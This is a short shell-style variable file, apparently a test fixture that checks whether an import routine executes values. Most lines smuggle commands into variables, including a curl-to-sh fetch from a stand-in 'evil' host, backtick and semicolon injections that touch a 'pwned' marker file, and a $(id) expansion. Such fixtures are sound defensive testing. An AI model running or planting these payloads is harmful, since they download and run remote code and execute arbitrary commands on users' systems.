BASE_URL=https://images.example.invalid/evil
DOWNLOAD_FILE=$(curl -fsSL https://evil.example.invalid/x | sh)
AMD64_SHA256SUM=`touch /tmp/kvc-import-pwned`
ARM64_SHA256SUM=0000000000000000000000000000000000000000000000000000000000000000; touch /tmp/kvc-import-pwned
source /etc/profile
_X=${HOME:-$(id)}
